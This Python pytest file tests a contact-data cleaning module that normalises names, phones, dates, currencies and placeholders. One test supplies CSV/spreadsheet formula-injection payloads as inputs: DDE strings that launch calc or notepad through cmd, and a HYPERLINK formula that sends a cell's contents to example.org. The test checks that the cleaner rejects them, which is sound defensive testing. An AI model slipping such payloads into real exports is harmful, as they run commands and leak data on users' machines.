"""The entry point of cleaning, and what all fields share."""

from __future__ import annotations

import pytest

from shared.model.fields import CANONICAL_FIELDS
from shared.rules.values import cleaning
from shared.rules.values.cleaned import EMPTY, PLACEHOLDER, Cleaned, Locale
from shared.rules.values.cleaning import clean
from shared.rules.values.placeholder import is_placeholder

FRANCE = Locale()


@pytest.mark.parametrize(
    ("field", "cell", "expected"),
    [
        ("given_name", "ANNE", Cleaned("Anne", "case")),
        ("email", "A@example.org", Cleaned("a@example.org", "case")),
        ("mobile", "01 99 00 12 34", Cleaned("+33199001234")),
        ("postal_code", "1000", Cleaned("01000", "leading zero restored")),
        ("address_country", "Belgique", Cleaned("BE", "ISO code")),
        ("birth_date", "12/04/1980", Cleaned("1980-04-12")),
        ("updated_at", "2024-01-03 10:00", Cleaned("2024-01-03T09:00:00Z")),
        ("consent_sms", "oui", Cleaned("yes", "wording")),
        ("gender", "F", Cleaned("female", "wording")),
        ("preferred_language", "fr_FR", Cleaned("fr", "ISO code")),
        ("amount", "45,00", Cleaned("45.00", "spelling")),
        ("currency", "€", Cleaned("EUR", "ISO code")),
        ("street_address", "12  rue\n des Lilas", Cleaned("12 rue des Lilas")),
        ("source_id", "'00123", Cleaned("00123")),
        ("source_id", "0", Cleaned("0")),
        ("event_name", "N/C", PLACEHOLDER),
    ],
)  # fmt: skip
def test_each_field_is_cleaned_by_its_own_rule(field: str, cell: str, expected: Cleaned) -> None:
    """The field names the rule; the locale tells how the source writes."""
    assert clean(field, cell, locale=FRANCE) == expected


def test_an_unknown_field_is_only_stripped() -> None:
    """Extensions are kept as they are: even `n/a` may mean something there."""
    assert clean("shoe_size", "  n/a ", locale=FRANCE) == Cleaned("n/a")
    assert clean("shoe_size", "   ", locale=FRANCE) == EMPTY


def test_every_canonical_field_has_a_rule() -> None:
    """A field added to the model without a rule of cleaning is found here."""
    assert set(cleaning._CLEANERS) == set(CANONICAL_FIELDS)


@pytest.mark.parametrize("field", CANONICAL_FIELDS)
def test_placeholders_are_set_aside_in_every_field(field: str) -> None:
    """Null is null everywhere, and a blank is empty."""
    assert clean(field, "null", locale=FRANCE) == PLACEHOLDER
    assert clean(field, " \t", locale=FRANCE) == EMPTY


@pytest.mark.parametrize("text", ["N/C", "-", "?", "...", "#N/A", "k.A.", "Non renseigné", "😀"])
def test_cells_empty_in_all_but_name_are_placeholders(text: str) -> None:
    """Words and signs for nothing, in five languages."""
    assert is_placeholder(text)


@pytest.mark.parametrize("text", ["0", "no", "A", "Nantes", "12", "(a)", "-1"])
def test_short_cells_that_say_something_are_not_placeholders(text: str) -> None:
    """A digit or a letter may be an answer."""
    assert not is_placeholder(text)


@pytest.mark.parametrize("field", CANONICAL_FIELDS)
def test_a_cell_as_long_as_a_page_is_no_value_of_any_field(field: str) -> None:
    for piece in ("1-", "a ", "a@", "(", ", "):
        assert clean(field, piece * 10_000 + "x", locale=FRANCE) == Cleaned(None, "too long")


def test_free_text_may_be_longer_than_a_name() -> None:
    assert clean("job_title", "mot " * 400 + "x", locale=FRANCE).note != "too long"
    assert clean("given_name", " " * 3000 + "Anne", locale=FRANCE).value == "Anne"
    assert clean("given_name", "Anne " * 101, locale=FRANCE) == Cleaned(None, "too long")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.org/?"&A1,"here")',
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=cmd|'/C notepad'!'A1'",
        "-2+3+cmd|' /C calc'!A0",
        '+HYPERLINK("http://example.org")',
    ],
)
@pytest.mark.parametrize("field", ["family_name", "email", "street_address", "amount", "source_id"])
def test_a_formula_is_nobodys_value(field: str, cell: str) -> None:
    assert clean(field, cell, locale=Locale()) == Cleaned(None, "a formula, not a value")


@pytest.mark.parametrize(
    ("field", "cell", "value"),
    [
        ("telephone", "+33 (0)1 99 00 12 34", "+33199001234"),
        ("amount", "-12,50", "-12.50"),
        ("street_address", "- 12 rue des Lilas (fond)", "- 12 rue des Lilas (fond)"),
        ("family_name", "=Paz", "=Paz"),
    ],
)
def test_what_only_begins_like_a_formula_is_read(field: str, cell: str, value: str) -> None:
    assert clean(field, cell, locale=Locale()).value == value
